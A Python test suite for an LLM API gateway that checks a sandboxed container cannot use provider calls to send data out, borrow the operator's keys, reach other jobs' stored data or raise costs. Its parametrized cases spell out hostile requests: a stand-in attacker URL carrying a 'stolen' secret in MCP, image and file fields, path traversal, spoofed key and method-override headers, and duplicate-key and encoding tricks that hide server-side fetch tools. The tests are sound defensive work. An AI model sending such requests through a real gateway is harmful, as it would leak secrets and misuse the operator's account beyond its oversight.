"""The LLM API as a way out, through the real gateway to a provider that writes down whatever reaches it.

Attack classes 12 (exfiltration through an allowed host), 13 (bypassing the way out), 10 and 11 (the operator's keys and
account) and 29 (running up costs).
"""

from __future__ import annotations

import gzip
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from bot.config import fixed_settings
from bot.terms import Terms
from runners.gateway.desk import Desk
from runners.gateway.llm import LlmProxy
from runners.gateway.llm_relay import Patience
from runners.gateway.server import Gateway
from tests.llm import Script, ScriptedLlm

KEY = "sk-operators-own-key-4711"
MODEL = "claude-sonnet-4-5"
OUT = "https://attacker.example/?stolen=c2VjcmV0"
CLIENT_TOOL = {
    "anthropic": {"name": "Bash", "input_schema": {"type": "object"}},
    "openai": {"type": "function", "name": "bash", "parameters": {"type": "object"}},
    "gemini": {"functionDeclarations": [{"name": "bash"}]},
}
PATHS = {
    "anthropic": "anthropic/v1/messages",
    "openai": "openai/responses",
    "gemini": "gemini/v1beta/models/gemini-2.5-pro:generateContent",
}


@dataclass
class Inside:
    """What a process in the container can do: speak HTTP to its gateway, with its own token."""

    session: aiohttp.ClientSession
    token: str
    llm: ScriptedLlm

    async def post(
        self, path: str, body: Any = None, *, data: bytes | None = None, **headers: str
    ) -> tuple[int, str]:
        shown = {"x-api-key": self.token, "Content-Type": "application/json"} | headers
        raw = json.dumps(body).encode() if data is None else data
        url = aiohttp.client.URL(f"http://gateway/llm/{path}", encoded=True)
        async with self.session.post(url, data=raw, headers=shown) as answer:
            return answer.status, await answer.text()

    @property
    def seen(self) -> str:
        """Everything that reached the provider."""
        return "".join(request.text for request in self.llm.requests)


@asynccontextmanager
async def inside(folder: Path, **settings: Any) -> AsyncIterator[Inside]:
    script = Script.of([{"text": "hi", "times": "always"}])
    desk = Desk.create(folder / "attempt", attempt_id="j1-1", mirror=None, terms=Terms(job_id="j1"))
    async with ScriptedLlm(script) as llm:
        urls = {"llm_anthropic_url": llm.url, "llm_openai_url": f"{llm.url}/v1", "llm_gemini_url": llm.url}
        keys = dict.fromkeys(("llm_anthropic_key", "llm_openai_key", "llm_gemini_key"), KEY)
        proxy = LlmProxy(fixed_settings(**{**urls, **keys, **settings}), patience=Patience(pauses=()))
        gateway = Gateway({"llm": proxy.serve})
        socket = await gateway.open(desk)
        try:
            async with aiohttp.ClientSession(connector=aiohttp.UnixConnector(path=str(socket))) as session:
                yield Inside(session, desk.token, llm)
        finally:
            await gateway.aclose()
            await proxy.close()
            desk.close()


REACHING_OUT: list[tuple[str, dict[str, Any]]] = [
    ("anthropic", {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
    ("anthropic", {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
    ("anthropic", {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
    ("anthropic", {"mcp_servers": [{"type": "url", "url": OUT, "name": "x"}]}),
    (
        "anthropic",
        {
            "messages": [
                {"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": OUT}}]}
            ]
        },
    ),
    ("openai", {"tools": [{"type": "mcp", "server_label": "x", "server_url": OUT}]}),
    ("openai", {"tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]}),
    ("openai", {"tools": [{"type": "web_search"}]}),
    ("openai", {"input": [{"type": "additional_tools", "tools": [{"type": "web_search"}]}]}),
    ("openai", {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": OUT}]}]}),
    ("openai", {"input": [{"role": "user", "content": [{"type": "input_file", "file_url": OUT}]}]}),
    ("openai", {"input": "hi", "api_base": OUT}),
    ("gemini", {"tools": [{"googleSearch": {}}]}),
    ("gemini", {"tools": [{"url_context": {}}]}),
    ("gemini", {"contents": [{"parts": [{"file_data": {"file_uri": OUT}}]}]}),
]


@pytest.mark.parametrize(("kind", "request_"), REACHING_OUT)
async def test_12_13_nothing_that_the_provider_would_fetch_or_run_leaves_the_host(
    kind: str, request_: dict[str, Any], tmp_path: Path
) -> None:
    body = {"tools": [CLIENT_TOOL[kind]], **request_}
    if kind != "gemini":
        body["model"] = MODEL
    async with inside(tmp_path) as box:
        status, text = await box.post(PATHS[kind], body)
        assert (status, box.llm.requests) == (400, [])
        assert "refused" in json.loads(text)["error"]["message"]


async def test_12_13_a_doubled_key_hides_nothing(tmp_path: Path) -> None:
    """Two readers may take a doubled key differently: the provider gets what was looked at, and nothing else."""
    honest = json.dumps([CLIENT_TOOL["anthropic"]])
    sly = json.dumps([{"type": "web_fetch_20250910", "name": "web_fetch"}])
    async with inside(tmp_path) as box:
        for first, second in ((sly, honest), (honest, sly)):
            data = f'{{"model":"{MODEL}","tools":{first},"tools":{second}}}'.encode()
            await box.post(PATHS["anthropic"], data=data)
        assert len(box.llm.requests) == 1
        assert "web_fetch" not in box.seen


@pytest.mark.parametrize(
    ("data", "headers"),
    [
        (b"not json", {}),
        (b"", {}),
        (b'{"model":"m","tools":[{"type":"web_fetch_20250910"}]}\xff', {}),
        (b'\xef\xbb\xbf{"tools":[{"type":"web_fetch_20250910"}]}', {}),
        (
            '{"tools":[{"type":"web_fetch_20250910"}]}'.encode("utf-16"),
            {"Content-Type": "application/json; charset=utf-16"},
        ),
        (gzip.compress(b'{"tools":[{"type":"web_fetch_20250910"}]}', mtime=0), {"Content-Encoding": "gzip"}),
        (b"tools=web_fetch", {"Content-Type": "application/x-www-form-urlencoded"}),
        (b'--x\r\n\r\n{"tools":[]}\r\n--x--', {"Content-Type": "multipart/form-data; boundary=x"}),
    ],
)
async def test_12_13_a_body_that_we_cannot_read_is_not_sent(
    data: bytes, headers: dict[str, str], tmp_path: Path
) -> None:
    async with inside(tmp_path) as box:
        status, _ = await box.post(PATHS["anthropic"], data=data, **headers)
        assert (status, box.llm.requests) == (400, [])


async def test_12_13_a_packed_body_is_looked_into_and_goes_on_plain(tmp_path: Path) -> None:
    body = gzip.compress(json.dumps({"model": MODEL, "tools": [CLIENT_TOOL["anthropic"]]}).encode())
    async with inside(tmp_path) as box:
        status, _ = await box.post(PATHS["anthropic"], data=body, **{"Content-Encoding": "gzip"})
        (request,) = box.llm.requests
        assert status == 200
        assert "content-encoding" not in request.headers
        assert request.body["model"] == MODEL


@pytest.mark.parametrize(
    ("kind", "request_"),
    [
        ("anthropic", {"container": "container_of_another_job"}),
        (
            "anthropic",
            {
                "messages": [
                    {"content": [{"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}
                ]
            },
        ),
        ("openai", {"input": "go on", "previous_response_id": "resp_of_another_job"}),
        ("openai", {"input": "go on", "conversation": "conv_of_another_job"}),
        ("openai", {"input": [{"type": "item_reference", "id": "msg_of_another_job"}]}),
        ("openai", {"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "file_1"}]}]}),
        ("openai", {"prompt": {"id": "pmpt_of_the_operator"}}),
        ("openai", {"input": "hi", "tools": [{"type": "file_search", "vector_store_ids": ["vs_1"]}]}),
        ("gemini", {"contents": [], "cachedContent": "cachedContents/of-another-job"}),
        ("gemini", {"contents": [{"parts": [{"fileData": {"fileUri": "files/of-another-job"}}]}]}),
    ],
)
async def test_11_what_is_stored_under_the_key_is_out_of_reach(
    kind: str, request_: dict[str, Any], tmp_path: Path
) -> None:
    async with inside(tmp_path) as box:
        status, _ = await box.post(PATHS[kind], {"model": MODEL, **request_})
        assert (status, box.llm.requests) == (400, [])


async def test_11_nothing_is_left_at_the_provider_for_others_to_read(tmp_path: Path) -> None:
    async with inside(tmp_path) as box:
        for body in ({"input": "a"}, {"input": "a", "store": True}):
            assert (await box.post("openai/responses", {"model": MODEL, **body}))[0] == 200
        assert [request.body["store"] for request in box.llm.requests] == [False, False]


async def test_10_11_headers_and_parameters_do_not_choose_account_method_or_key(tmp_path: Path) -> None:
    sly = {
        "Authorization": "Bearer key-of-the-attacker",
        "x-goog-api-key": "key-of-the-attacker",
        "X-HTTP-Method-Override": "DELETE",
        "x-goog-user-project": "projects/of-somebody",
        "OpenAI-Organization": "org-of-somebody",
        "Cookie": "session=1",
        "Connection": "x-hop",
        "x-hop": "1",
    }
    query = "?alt=sse&key=key-of-the-attacker&access_token=x&%24httpMethod=GET&fields=candidates"
    async with inside(tmp_path) as box:
        for kind, path in PATHS.items():
            body = {"tools": [CLIENT_TOOL[kind]], **({} if kind == "gemini" else {"model": MODEL})}
            # the gateway takes any of the headers for the token: it is in one of them
            status, _ = await box.post(path + query, body, **sly)
            assert status == 200, kind
        for request in box.llm.requests:
            names = set(request.headers)
            assert not names & {"cookie", "x-hop", "x-http-method-override", "x-goog-user-project"}
            assert "openai-organization" not in names
            assert not [part for part in ("attacker", "access_token", "fields") if part in request.path]
        assert "attacker" not in box.seen
        assert box.token not in box.seen
        assert len(box.llm.requests) == 3


@pytest.mark.parametrize(
    "path",
    [
        "openai/../../../v1/files",
        "openai/responses/..%2ffiles",
        "openai/%2e%2e/files",
        "openai//files",
        "anthropic/v1/files",
        "anthropic/v1/messages/batches",
        "anthropic/v1/skills",
        "gemini/v1beta/models/x:batchGenerateContent",
        "gemini/v1beta/models/..:generateContent",
        "gemini/v1beta/models/a%2fb:generateContent",
        "gemini/v1beta/models/a%3AgenerateContent",
        "gemini/v1beta/interactions",
        "http://attacker.example/v1/messages",
        "company/v1/messages",
    ],
)
async def test_13_other_calls_do_not_leave_the_host(path: str, tmp_path: Path) -> None:
    async with inside(tmp_path) as box:
        status, _ = await box.post(path, {"model": MODEL})
        assert status in (400, 404)
        assert box.llm.requests == []


async def test_29_dearer_ways_to_an_answer_are_taken_out(tmp_path: Path) -> None:
    async with inside(tmp_path) as box:
        assert (
            await box.post("openai/responses", {"model": MODEL, "input": "", "service_tier": "priority"})
        )[0] == 200
        assert (await box.post("anthropic/v1/messages", {"model": MODEL, "speed": "fast"}))[0] == 200
        assert "priority" not in box.seen
        assert '"speed"' not in box.seen


async def test_29_only_models_that_are_allowed(tmp_path: Path) -> None:
    async with inside(tmp_path, models_allowed=["claude-haiku-*"]) as box:
        for kind, path in PATHS.items():
            body = {"tools": [CLIENT_TOOL[kind]], "model": "claude-opus-4-5"}
            assert (await box.post(path, body))[0] == 400
        # the model of the address counts, whatever the body says
        path = "gemini/v1beta/models/gemini-ultra:generateContent"
        assert (await box.post(path, {"model": "claude-haiku-4-5", "contents": []}))[0] == 400
        assert box.llm.requests == []


async def test_the_operator_may_open_one_door_and_only_that(tmp_path: Path) -> None:
    search = {"type": "web_search_20250305", "name": "web_search"}
    fetch = {"type": "web_fetch_20250910", "name": "web_fetch"}
    async with inside(tmp_path, llm_server_tools=["web_search"]) as box:
        assert (await box.post(PATHS["anthropic"], {"model": MODEL, "tools": [search]}))[0] == 200
        assert (await box.post(PATHS["anthropic"], {"model": MODEL, "tools": [search, fetch]}))[0] == 400
